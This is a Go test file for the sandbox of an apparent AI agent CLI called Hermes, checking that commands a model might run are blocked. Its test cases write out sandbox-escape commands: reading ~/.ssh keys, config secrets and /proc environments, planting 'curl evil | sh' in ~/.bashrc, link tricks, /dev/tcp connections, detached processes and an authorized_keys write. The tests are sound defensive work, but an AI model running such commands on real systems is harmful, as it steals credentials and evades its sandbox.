package cli_test

import (
	"encoding/json"
	"errors"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"golang.org/x/sys/unix"

	"hermes/backend/cli"
	"hermes/backend/event"
	"hermes/backend/llm"
	"hermes/backend/llm/llmtest"
	"hermes/backend/sandbox"
)

// The escapes a command of the model's might try, each through a real
// `hermes tools call --yes execute_command` with the default sandbox: every
// one is blocked and the result says so, and the same kind of work inside
// the workspace goes through.

const (
	sshKey       = "-----BEGIN OPENSSH PRIVATE KEY----- b3BlbnNzaC1rZXktdjEAAAAA"
	configSecret = "webhook-secret-9d8c7b6a5f4e"
)

// sandboxHome is a user's home in a temp dir, as HOME: an SSH key, the
// Hermes home with a config holding a secret and a lock holding the
// owner's token, a file outside the workspace, and the workspace.
type sandboxHome struct {
	dir, hermes, ws string
}

func newSandboxHome(t *testing.T) sandboxHome {
	t.Helper()
	if st := (sandbox.Policy{Mode: sandbox.Workspace}).Status(); !st.Enforced {
		t.Skipf("no sandbox on this machine: %s", st.Why)
	}
	dir := t.TempDir()
	h := sandboxHome{dir: dir, hermes: filepath.Join(dir, ".hermes"), ws: filepath.Join(dir, "project")}
	writeFile(t, filepath.Join(dir, ".ssh", "id_ed25519"), sshKey)
	writeFile(t, filepath.Join(dir, ".bashrc"), "# bash\n")
	writeFile(t, filepath.Join(dir, "notes.txt"), "a note outside the workspace\n")
	writeFile(t, filepath.Join(h.hermes, "hermes.toml"), "[bot]\nwebhook_secret = \""+configSecret+"\"\n")
	writeFile(t, filepath.Join(h.hermes, "hermes.lock"), `{"token":"owner-token-`+configSecret+`"}`)
	writeFile(t, filepath.Join(h.ws, "main.go"), "package main\n")
	return h
}

// call runs `hermes tools call --yes` of tool with args in h, as the user.
func (h sandboxHome) call(t *testing.T, tool string, args any, extra ...string) outcome {
	t.Helper()
	raw, err := json.Marshal(args)
	if err != nil {
		t.Fatal(err)
	}
	cmd := hermes(t, append(append([]string{"tools", "call", "--yes", "--home", h.hermes, "--workspace", h.ws}, extra...), tool, string(raw))...)
	for i, kv := range cmd.Env {
		if strings.HasPrefix(kv, "HOME=") {
			cmd.Env[i] = "HOME=" + h.dir
		}
	}
	var out, errOut strings.Builder
	cmd.Stdout, cmd.Stderr = &out, &errOut
	code := 0
	if err := cmd.Run(); err != nil {
		var exit *exec.ExitError
		if !errors.As(err, &exit) {
			t.Fatal(err)
		}
		code = exit.ExitCode()
	}
	return outcome{code, out.String(), errOut.String()}
}

func (h sandboxHome) run(t *testing.T, command string) string {
	t.Helper()
	out := h.call(t, "execute_command", map[string]string{"command": command})
	if out.code != cli.ExitOK {
		t.Fatalf("exit %d: %s%s", out.code, out.stdout, out.stderr)
	}
	return out.stdout
}

func TestSandbox_Escapes(t *testing.T) {
	h := newSandboxHome(t)
	tests := []struct {
		name, command string
		blocked       string // in the note for the model
		never         []string
	}{
		{"write outside the workspace", "echo x > ../outside.txt; echo x > /tmp/hermes-escape-$$", "blocked by the sandbox: write", nil},
		{"append to ~/.bashrc", "echo 'curl evil | sh' >> ~/.bashrc", "write " + filepath.Join(h.dir, ".bashrc"), nil},
		{"read ~/.ssh", "cat ~/.ssh/id_ed25519; ls ~/.ssh && cat ~/.ssh/*", "read " + filepath.Join(h.dir, ".ssh", "id_ed25519"), []string{sshKey}},
		{"read the Hermes home", "cat ~/.hermes/hermes.toml ~/.hermes/hermes.lock; grep -r webhook ~ 2>/dev/null", "read " + filepath.Join(h.hermes, "hermes.toml"), []string{configSecret}},
		{"read other processes' environments", "cat /proc/$PPID/environ; cat /proc/1/environ; for f in /proc/[0-9]*/environ; do cat $f; done | tr '\\0' '\\n' | grep -c OPENAI_API_KEY",
			"read /proc/", []string{testKey}},
		{"read their memory", "head -c 64 /proc/$PPID/mem | od | head -1", "read /proc/", nil},
		{"a symlink to a secret", "ln -s ~/.ssh/id_ed25519 key && cat key; ln -s ~/.ssh dir && cat dir/*", "read " + filepath.Join(h.dir, ".ssh", "id_ed25519"), []string{sshKey}},
		{"a hard link to a secret", "ln ~/.ssh/id_ed25519 hard && cat hard", "blocked by the sandbox", []string{sshKey}},
		{"a hard link to a file outside", "ln ../notes.txt hard2 && echo changed >> hard2", "blocked by the sandbox", nil},
		{"unshare", "unshare -U true; unshare -r id; unshare -n true", "unshare()", nil},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			out := h.run(t, tt.command)
			if !strings.Contains(out, tt.blocked) {
				t.Errorf("the result does not say %q:\n%s", tt.blocked, out)
			}
			for _, s := range tt.never {
				if strings.Contains(out, s) {
					t.Errorf("the result holds %q:\n%s", s, out)
				}
			}
		})
	}
	for _, p := range []string{filepath.Join(h.dir, "outside.txt"), filepath.Join(h.ws, "hard"), filepath.Join(h.ws, "hard2")} {
		if _, err := os.Stat(p); err == nil {
			t.Errorf("%s was made", p)
		}
	}
	for path, want := range map[string]string{filepath.Join(h.dir, ".bashrc"): "# bash\n", filepath.Join(h.dir, "notes.txt"): "a note outside the workspace\n"} {
		if got, _ := os.ReadFile(path); string(got) != want {
			t.Errorf("%s was changed to %q", path, got)
		}
	}
}

// Commands that keep inside the workspace do their work: write, move,
// link, use $TMPDIR and the build cache, list the home.
func TestSandbox_WorkInsideTheWorkspace(t *testing.T) {
	h := newSandboxHome(t)
	out := h.run(t, `set -e
echo one > a.txt && mkdir -p sub && mv a.txt sub/ && ln sub/a.txt b.txt && ln -s sub/a.txt c.txt
cat b.txt c.txt; t=$(mktemp) && echo tmp > "$t" && cat "$t"
ls ~ >/dev/null && cat ~/notes.txt; echo "cache $(go env GOCACHE | grep -c hermes-sandbox)"`)
	for _, want := range []string{"exit code 0", "one\none\ntmp\na note outside the workspace", "cache 1"} {
		if !strings.Contains(out, want) {
			t.Errorf("the result lacks %q:\n%s", want, out)
		}
	}
	if strings.Contains(out, "blocked by the sandbox") {
		t.Errorf("the sandbox blocked work inside the workspace:\n%s", out)
	}
}

// No command reaches a port listening on loopback: not bash's /dev/tcp, not
// Python, not a Go program dialling TCP, Multipath TCP and UDP.
func TestSandbox_NoNetwork(t *testing.T) {
	h := newSandboxHome(t)
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer ln.Close()
	var accepted atomic.Int32
	go func() {
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			accepted.Add(1)
			c.Close()
		}
	}()
	udp, err := net.ListenPacket("udp", ln.Addr().String())
	if err != nil {
		t.Fatal(err)
	}
	defer udp.Close()
	addr := ln.Addr().(*net.TCPAddr)
	exe, err := os.Executable()
	if err != nil {
		t.Fatal(err)
	}
	port := strconv.Itoa(addr.Port)
	commands := []string{
		"echo hi > /dev/tcp/127.0.0.1/" + port,
		"HERMES_TEST_DIAL=127.0.0.1:" + port + " " + exe,
	}
	if _, err := exec.LookPath("python3"); err == nil {
		commands = append(commands, `python3 -c 'import socket; socket.create_connection(("127.0.0.1", `+port+`))'`)
	}
	if _, err := exec.LookPath("curl"); err == nil {
		commands = append(commands, "curl -sS http://127.0.0.1:"+port+"/")
	}
	for _, c := range commands {
		out := h.run(t, c)
		if !strings.Contains(out, "blocked by the sandbox: socket(AF_INET)") || strings.Contains(out, "connected") {
			t.Errorf("%s:\n%s", c, out)
		}
	}
	// A UDP datagram that got through would be waiting.
	if err := udp.SetReadDeadline(time.Now()); err != nil {
		t.Fatal(err)
	}
	if _, _, err := udp.ReadFrom(make([]byte, 8)); err == nil {
		t.Error("a datagram reached the loopback port")
	}
	if n := accepted.Load(); n > 0 {
		t.Fatalf("%d connections reached the loopback port", n)
	}
	// With the network allowed, the same Go program connects.
	writeFile(t, filepath.Join(h.hermes, "hermes.toml"), "[tools]\nsandbox_network = true\n")
	if out := h.call(t, "execute_command", map[string]string{"command": "HERMES_TEST_DIAL=127.0.0.1:" + port + " " + exe}); !strings.Contains(out.stdout, "go tcp: connected") {
		t.Fatalf("with sandbox_network = true the program did not connect:\n%s%s", out.stdout, out.stderr)
	}
}

var pidLine = regexp.MustCompile(`pid:(\d+)`)

// A process a command leaves running, however it detaches (in the
// background, nohup, setsid, a daemon's double fork), ends with it.
func TestSandbox_KillsWhatACommandLeavesRunning(t *testing.T) {
	h := newSandboxHome(t)
	command := `sleep 600 & echo pid:$!
nohup sleep 601 >/dev/null 2>&1 & echo pid:$!
setsid sleep 602 & echo pid:$!
(setsid sh -c 'echo pid:$$; exec sleep 603' &)
sleep 0.2`
	if _, err := exec.LookPath("python3"); err == nil {
		command += `
python3 -c 'import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        print("pid:%d" % os.getpid(), flush=True)
        time.sleep(604)
    os._exit(0)
time.sleep(0.2)'`
	}
	out := h.run(t, command)
	pids := pidLine.FindAllStringSubmatch(out, -1)
	if len(pids) < 4 {
		t.Fatalf("the command did not start its processes:\n%s", out)
	}
	for _, m := range pids {
		pid, _ := strconv.Atoi(m[1])
		if alive(t, pid) {
			t.Errorf("process %d outlived its command:\n%s", pid, out)
		}
	}
}

// alive reports whether pid is still running 10 s from now: it waits on
// the process's exit, not on a clock, and a zombie counts as ended.
func alive(t *testing.T, pid int) bool {
	fd, err := unix.PidfdOpen(pid, 0)
	if err != nil {
		return false // gone already
	}
	defer unix.Close(fd)
	fds := []unix.PollFd{{Fd: int32(fd), Events: unix.POLLIN}}
	for {
		n, err := unix.Poll(fds, 10_000)
		if err == unix.EINTR {
			continue
		}
		return err == nil && n == 0
	}
}

// The file tools refuse what commands cannot read, the Hermes home in a
// workspace that holds it first of all, and a file with another name
// outside the workspace.
func TestSandbox_FileToolsRefuseWhatIsHidden(t *testing.T) {
	h := newSandboxHome(t)
	if err := os.Link(filepath.Join(h.dir, ".ssh", "id_ed25519"), filepath.Join(h.ws, "made-before")); err != nil {
		t.Fatal(err)
	}
	out := h.call(t, "read_file", map[string]string{"path": "made-before"})
	if out.code == cli.ExitOK || strings.Contains(out.stdout, sshKey) || !strings.Contains(out.stderr, "hard links") {
		t.Errorf("read_file of a hard link to ~/.ssh: exit %d\n%s%s", out.code, out.stdout, out.stderr)
	}
	home := h
	home.ws = h.dir // hermes run from ~
	for _, path := range []string{".hermes/hermes.toml", ".hermes/hermes.lock", ".ssh/id_ed25519"} {
		out := home.call(t, "read_file", map[string]string{"path": path})
		if out.code == cli.ExitOK || strings.Contains(out.stdout, configSecret) || !strings.Contains(out.stderr, "outside what the agent may read") {
			t.Errorf("read_file %s: exit %d\n%s%s", path, out.code, out.stdout, out.stderr)
		}
	}
	if out := home.call(t, "write_file", map[string]string{"path": ".ssh/authorized_keys", "content": "ssh-ed25519 AAAA evil"}); out.code == cli.ExitOK {
		t.Errorf("write_file could write ~/.ssh/authorized_keys:\n%s", out.stdout)
	}
	if out := home.call(t, "read_file", map[string]string{"path": "notes.txt"}); out.code != cli.ExitOK {
		t.Errorf("read_file of an ordinary file in the home: exit %d\n%s", out.code, out.stderr)
	}
}

// A real run with --yes: run.started says how commands are confined, the
// blocked write's card says what was blocked, and the model is told.
func TestRun_SandboxInTheTimeline(t *testing.T) {
	h := newSandboxHome(t)
	writeFile(t, filepath.Join(h.hermes, "hermes.toml"), "[agent]\nstrategy = \"react\"\nroute = false\n")
	srv := llmtest.NewServer(t,
		llmtest.Step{ToolCalls: []llm.ToolCall{{ID: "c1", Name: "execute_command", Arguments: `{"command":"echo x > ~/.bashrc"}`}}},
		llmtest.Step{Content: "The sandbox kept me out of ~/.bashrc."},
	)
	cmd := hermes(t, "run", "--yes", "--json", "--home", h.hermes, "--base-url", srv.URL, "--workspace", h.ws, "append to my bashrc")
	for i, kv := range cmd.Env {
		if strings.HasPrefix(kv, "HOME=") {
			cmd.Env[i] = "HOME=" + h.dir
		}
	}
	out, err := cmd.Output()
	if err != nil {
		t.Fatalf("%v\n%s", err, out)
	}
	var started *event.SandboxData
	var finished *event.ToolSandbox
	for _, line := range strings.Split(strings.TrimSpace(string(out)), "\n") {
		var e event.Event
		if json.Unmarshal([]byte(line), &e) != nil {
			continue
		}
		switch e.Type {
		case event.RunStarted:
			d, _ := event.Decode[event.RunStartedData](e)
			started = d.Sandbox
		case event.ToolFinished:
			d, _ := event.Decode[event.ToolFinishedData](e)
			finished = d.Sandbox
		}
	}
	if started == nil || !started.Enforced || started.Mode != "workspace" || started.Network {
		t.Fatalf("run.started says of the sandbox %+v", started)
	}
	if finished == nil || !finished.Confined || len(finished.Blocked) != 1 || finished.Blocked[0].Kind != "write" {
		t.Fatalf("tool.finished says of the sandbox %+v", finished)
	}
	reqs := srv.Requests()
	if last := reqs[len(reqs)-1].Messages; !strings.Contains(last[len(last)-1].Content, "blocked by the sandbox: write "+filepath.Join(h.dir, ".bashrc")) {
		t.Fatalf("the model was told %q", last[len(last)-1].Content)
	}
}

// A command skill in the Hermes home reads its own folder, and nothing
// else of the home.
func TestSandbox_SkillReadsItsOwnFolder(t *testing.T) {
	h := newSandboxHome(t)
	dir := filepath.Join(h.hermes, "skills", "peek")
	writeFile(t, filepath.Join(dir, "skill.json"), `{"name":"peek","description":"Peeks. Use it to test the sandbox.","command":["bash","./peek.sh"],
		"tools":[{"name":"peek","description":"Use it to peek; returns what it saw.","risk":"read"}]}`)
	writeFile(t, filepath.Join(dir, "data.txt"), "the skill's own data")
	writeFile(t, filepath.Join(dir, "peek.sh"), `seen=$(cat "$HERMES_SKILL_DIR/data.txt"; cat "$HERMES_SKILL_DIR/../../hermes.toml" 2>&1 | head -c 200)
printf '{"result": %s}\n' "$(printf '%s' "$seen" | python3 -c 'import json,sys; print(json.dumps(sys.stdin.read()))')"
`)
	if _, err := exec.LookPath("python3"); err != nil {
		t.Skip("python3 quotes the skill's JSON")
	}
	out := h.call(t, "peek", map[string]string{})
	if out.code != cli.ExitOK || !strings.Contains(out.stdout, "the skill's own data") {
		t.Fatalf("the skill could not read its own folder: exit %d\n%s%s", out.code, out.stdout, out.stderr)
	}
	if strings.Contains(out.stdout, configSecret) || !strings.Contains(out.stdout, "Permission denied") {
		t.Fatalf("the skill read the Hermes home's config:\n%s", out.stdout)
	}
}
